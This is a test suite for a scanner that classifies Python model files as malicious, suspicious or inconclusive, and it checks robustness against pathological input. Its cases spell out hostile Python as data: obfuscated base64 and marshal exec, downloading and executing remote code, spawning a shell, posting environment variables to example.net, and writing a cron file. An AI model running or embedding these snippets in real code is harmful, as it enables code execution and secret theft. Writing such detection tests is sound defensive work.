import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { BufferSource } from '../../bytes/source.ts';
import { scanSource } from '../../scan/scan-source.ts';

const scan = (source: string, name = 'modeling_x.py') =>
  scanSource(new BufferSource(new TextEncoder().encode(source)), name);
const ids = (source: string) => scan(source).findings.map((finding) => finding.ruleId);

describe('is malicious', () => {
  test.each([
    ['decoded in place', 'import base64\nexec(base64.b64decode("aWQ="))'],
    [
      'decoded before',
      'import base64 as b, zlib\nraw = b.b64decode("aWQ=")\ncode = zlib.decompress(raw).decode()\nexec(code)',
    ],
    ['compiled and run', 'import base64\nexec(compile(base64.b64decode("aWQ="), "<s>", "exec"))'],
    ['marshal', 'import marshal\nexec(marshal.loads(b"x"))'],
    ['downloaded', 'import requests\nexec(requests.get("https://example.net/x").text)'],
    ['hexadecimal', 'exec(bytes.fromhex("6964").decode())'],
    ['imported under another name', 'from base64 import b64decode as d\ne = exec\ne(d("aWQ="))'],
    ['through builtins', 'import builtins, codecs\ngetattr(builtins, "ex" + "ec")(codecs.decode("vq", "rot13"))'],
    ['inside an f-string', 'import base64\nx = f"{exec(base64.b64decode(\'aWQ=\'))}"'],
    ['inside a nested f-string', 'import base64\nx = f"{f\'{exec(base64.b64decode(1))}\'}"'],
    ['inside a default argument', 'import base64\ndef f(x=exec(base64.b64decode("aWQ="))): pass'],
    ['inside a decorator', 'import base64\n@exec(base64.b64decode("aWQ="))\ndef f(): pass'],
    ['after a semicolon', 'import base64; exec(base64.b64decode("aWQ="))'],
    ['on the line of an if', 'if 1: import base64; exec(base64.b64decode("aWQ="))'],
    ['joined over lines', 'import base64\nexec(\\\n  base64.b64decode(\n "aWQ="))'],
    ['full-width letters', 'import base64\nｅxec(base64.b64decode("aWQ="))'],
  ])('%s', (_, source) => {
    expect(scan(source).verdict).toBe('malicious');
  });
});

describe('is suspicious', () => {
  test.each([
    ['python-command', 'import os\nos.system("id")'],
    ['python-command', 'import os as o\no.popen("id")'],
    ['python-command', 'from os import system'],
    ['python-command', '__import__("os").system("id")'],
    ['python-command', 'import importlib\nimportlib.import_module("subprocess").run("id")'],
    ['python-command', 'import sys\nsys.modules["os"].system("id")'],
    ['python-command', 'import numpy as np\nnp.f2py.subprocess.run("id")'],
    [
      'python-command',
      'run = None\ntry:\n    import subprocess as s\n    run = s.check_output\nexcept ImportError:\n    pass\nrun("id")',
    ],
    ['python-command', 'import pty\npty.spawn("/bin/sh")'],
    ['python-command', 'class A:\n    def f(self):\n        import os; os.execv("/bin/id", ["id"])'],
    ['python-exec', 'eval(config.expression)'],
    ['python-exec', 'import builtins\nbuiltins.exec(x)'],
    ['python-exec', '__builtins__["eval"](x)'],
    ['python-exec', 'exec("import os")'],
    ['python-exec', 'import types\ntypes.FunctionType(c, {})()'],
    ['python-reflection', '"".__class__.__mro__[1].__subclasses__()'],
    ['python-reflection', 'def f(): pass\nf.__globals__["os"]'],
    ['python-reflection', 'from transformers.utils import os'],
    ['python-reflection', '__import__(name)'],
    ['python-reflection', 'x = getattr(model, "__glo" + "bals__")'],
    ['python-network', 'import socket\ns = socket.socket()'],
    ['python-network', 'import http.client\nhttp.client.HTTPConnection("a")'],
    ['python-network', 'import torch\ntorch.hub.load("a/b", "c")'],
    ['python-unsafe-load', 'import torch\ntorch.load("x", weights_only=False)'],
    ['python-unsafe-load', 'import yaml\nyaml.load(f)'],
    ['python-unsafe-load', 'import numpy as np\nnp.load("x.npy", allow_pickle=True)'],
    ['python-native-code', 'from torch.utils.cpp_extension import load\nload(name="x", sources=["x.cu"])'],
    ['python-exfiltration', 'import os, requests\nrequests.post("https://example.net", data=str(os.environ))'],
    ['python-file-change', 'with open("/etc/cron.d/x", "w") as f: f.write("x")'],
  ])('%s: %s', (rule, source) => {
    expect(ids(source)).toContain(rule);
    expect(['suspicious', 'malicious']).toContain(scan(source).verdict);
  });
});

describe('is not called clean', () => {
  test.each([
    ['unknown package', 'import nobody_knows_this'],
    ['open string', 'x = """abc'],
    ['open bracket', 'x = (1,'],
    ['not Python', 'x = $1'],
    ['too deep', `x = ${'('.repeat(150)}${')'.repeat(150)}`],
    ['unknown part of os', 'import os\nos.mystery()'],
  ])('%s', (_, source) => {
    expect(scan(source).verdict).toBe('inconclusive');
  });
});

const MODEL = `# coding=utf-8
"""A model. Never call exec(base64.b64decode(x)) or os.system here."""
from __future__ import annotations

import math
import os
from typing import Optional, Tuple

import torch
import torch.nn.functional as F
from torch import nn
from transformers import PreTrainedModel
from transformers.activations import ACT2FN
from transformers.utils import logging

from .configuration_x import XConfig

logger = logging.get_logger(__name__)


class XBlock(nn.Module):
    def __init__(self, config: XConfig, *, eps: float = 1e-6):
        super().__init__()
        self.act = ACT2FN[config.hidden_act]
        self.proj = nn.Linear(config.hidden_size, config.hidden_size, bias=False)
        self.code = getattr(config, "code", None)

    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None) -> Tuple[torch.Tensor, ...]:
        if mask is not None: x = x.masked_fill(mask == 0, float("-inf"))
        dtype = getattr(torch, self.config.dtype) if isinstance(self.config.dtype, str) else x.dtype
        y = torch.einsum("b i d, b j d -> b i j", x, x) / math.sqrt(x.shape[-1])
        match = {k: v for k, v in self.named_parameters() if lambda q: q}
        logger.warning_once(f"{self.__class__.__name__}: shape {tuple(y.shape)!r:>{10}} at {os.environ.get('RANK', '0')}")
        return F.softmax(y, dim=-1).to(dtype), *(self.act(z) for z in y)


class XModel(PreTrainedModel):
    config_class = XConfig

    def _init_weights(self, module):
        with torch.no_grad(): module.weight.data.normal_()

    @torch.jit.ignore
    def compile(self): self.eval(); return torch.compile(self)
`;

test('ordinary model code is clean, words of danger in comments and names notwithstanding', () => {
  expect(scan(MODEL).findings).toEqual([]);
});

test('one line of danger anywhere in ordinary model code is seen', () => {
  const lines = MODEL.split('\n');
  for (const at of [8, 19, 46]) {
    const changed = [...lines.slice(0, at), 'import subprocess; subprocess.run(["id"])', ...lines.slice(at)].join('\n');
    expect(ids(changed)).toContain('python-command');
  }
});

describe('TorchScript', () => {
  const code = (body: string) =>
    scan(
      `class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    ${body}\n    return x\n`,
      'a/code/__torch__.py',
    );

  test.each([
    'y = torch.relu(x)',
    '_0 = ops.prim.data(x)',
    '_1 = ops.quantized.linear(x, self.w, 1., 0)',
    'raise Exception("x")',
  ])('%s is clean', (body) => {
    expect(code(body).findings).toEqual([]);
  });

  test.each([
    'y = torch.from_file("/x", True, 1)',
    'torch.save(x, "/x")',
    'y = ops.aten.from_file("/x")',
    'y = ops.mylib.run(x)',
  ])('%s is suspicious (CVE-2025-32434)', (body) => {
    expect(code(body).findings.map((finding) => finding.ruleId)).toContain('torchscript-effect');
  });
});

test('any text is judged without an internal error', () => {
  const piece = fc.constantFrom(
    '(',
    ')',
    '[',
    ']',
    '{',
    '}',
    '"',
    "'",
    'f"',
    '"""',
    'import ',
    'from ',
    'os',
    '.',
    'exec',
    ':',
    '\n',
    '  ',
    'def ',
    '=',
    ',',
    '\\',
    'lambda ',
    '#',
    ';',
    '!',
  );
  fc.assert(
    fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 3 })), { maxLength: 60 }), (pieces) => {
      expect(ids(`x${pieces.join('')}`)).not.toContain('internal-error');
    }),
    { numRuns: 2000 },
  );
});

test.each([
  ['brackets', '('.repeat(1_000_000)],
  ['f-strings', 'f"{'.repeat(300_000)],
  ['fields', `x = f"${'{a}'.repeat(200_000)}"`],
  ['members', `x${'.os'.repeat(300_000)}`],
  ['calls', `x = a${'()'.repeat(400_000)}`],
  ['getattr', `x = ${'getattr('.repeat(90)}os${', "a")'.repeat(90)}\n`.repeat(800)],
  ['aliases', Array.from({ length: 20_000 }, (_, i) => `a${i + 1} = a${i}.os`).join('\n')],
  ['additions', `exec(${'"a"+'.repeat(200_000)}"b")`],
  ['comments', '#'.repeat(1_000_000)],
  ['escapes', `x = "${'\\x41'.repeat(200_000)}"`],
  ['quotes', "'''".repeat(300_000)],
  ['continuations', '\\\n'.repeat(400_000)],
])('a megabyte of %s is judged in bounded time', (_, source) => {
  const started = performance.now();
  scan(source);
  expect(performance.now() - started).toBeLessThan(20_000);
});
